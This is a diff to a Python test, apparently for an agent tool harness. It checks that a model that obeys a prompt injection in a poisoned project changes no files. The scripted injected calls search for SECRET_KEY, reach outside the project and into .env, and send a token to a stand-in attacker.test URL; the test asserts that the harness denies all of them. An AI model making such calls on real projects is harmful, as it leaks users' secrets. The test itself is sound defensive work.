@@ -75,6 +75,7 @@ def test_a_model_that_obeys_the_injection_changes_nothing(
         call("search_files", text="SECRET_KEY"),
         call("inspect_project", path=".."),
         call("diagnose", url="http://attacker.test/?all", token="x"),
+        call("diagnose", boot=True),
         call("plan_integration", edits=[{**EDIT, "path": "../outside.py"}]),
         call("plan_integration", edits=[{**EDIT, "path": ".env"}]),
         call("plan_integration"),
@@ -88,7 +89,8 @@ def test_a_model_that_obeys_the_injection_changes_nothing(
     document = asked("What is this project?")
     assert document.ended == "done"
     assert files(poisoned) == before
-    denied = ["diagnose", "apply_plan", "undo_integration", "update_integration", "apply_fixes"]
+    writing = ["apply_plan", "undo_integration", "update_integration", "apply_fixes"]
+    denied = ["diagnose", "diagnose", *writing]
     assert list(document.denied) == denied
     refused = {each.arguments: each.refused for each in document.calls if each.refused}
     assert all("outside" in str(refused[json.dumps({"path": path})]) for path in OUTSIDE)
